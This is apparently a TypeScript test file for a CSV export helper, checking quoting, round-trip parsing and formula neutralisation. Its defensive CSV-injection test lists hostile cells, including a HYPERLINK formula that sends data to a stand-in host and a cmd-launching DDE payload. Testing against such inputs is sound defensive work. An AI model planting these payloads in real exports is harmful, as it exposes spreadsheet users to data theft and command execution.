import { describe, expect, it } from 'vitest';
import { parseCsv } from './csv';
import { neutraliseFormula, toCsv, toCsvBlob } from './to-csv';

const fields = [{ name: 'name' }, { name: 'notes' }, { name: 'phone' }];

describe('toCsv', () => {
  it('writes a header of field names and quotes only where needed', () => {
    const csv = toCsv(
      [
        { name: 'Lovelace, Ada', notes: 'said "hi"\nthen left', phone: '+14155550123' },
        { name: 'Bob', notes: '', phone: '+34911234567' },
      ],
      fields,
      { formulas: 'keep' },
    );
    expect(csv).toBe(
      'name,notes,phone\r\n"Lovelace, Ada","said ""hi""\nthen left",+14155550123\r\nBob,,+34911234567',
    );
  });

  it('reads back as the same rows', () => {
    const rows = [{ name: 'A;B', notes: 'x,"y"\r\nz', phone: ' 1 ' }];
    const table = parseCsv(toCsv(rows, fields));
    expect(table.headers).toEqual(['name', 'notes', 'phone']);
    // parseCsv trims cells; the quotes keep the spaces in the file itself.
    expect(table.rows[0]?.cells).toEqual(['A;B', 'x,"y"\r\nz', '1']);
    expect(toCsv(rows, fields)).toContain('" 1 "');
  });

  it('writes only the header when no row is left, and a missing value as empty', () => {
    expect(toCsv([], fields)).toBe('name,notes,phone');
    expect(toCsv([{ name: 'A' }], fields)).toBe('name,notes,phone\r\nA,,');
  });

  it('gives a CSV Blob to upload, the cells kept as typed', async () => {
    const blob = toCsvBlob([{ name: 'A', notes: '=1+1', phone: '+1' }], fields, { formulas: 'keep' });
    expect(blob.type).toBe('text/csv;charset=utf-8');
    await expect(blob.text()).resolves.toBe('name,notes,phone\r\nA,=1+1,+1');
  });

  it('by default writes a cell a spreadsheet would run as a formula as text (OWASP CSV injection)', () => {
    const hostile = [
      '=HYPERLINK("http://evil.test?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
    ];
    expect(hostile.map(neutraliseFormula)).toEqual(hostile.map((cell) => `'${cell}`));
    expect(['Ada', '14155550123', 'a=b', ' =1', ''].map(neutraliseFormula)).toEqual([
      'Ada',
      '14155550123',
      'a=b',
      ' =1',
      '',
    ]);
    const csv = toCsv([{ name: '=1+1', notes: '-5', phone: '+14155550123' }], fields);
    expect(csv).toBe("name,notes,phone\r\n'=1+1,'-5,'+14155550123");
    const tab = toCsv([{ name: '\t=1', notes: '@x, y', phone: '' }], fields);
    expect(parseCsv(tab).rows[0]?.cells).toEqual(["'\t=1", "'@x, y", '']);
  });
});
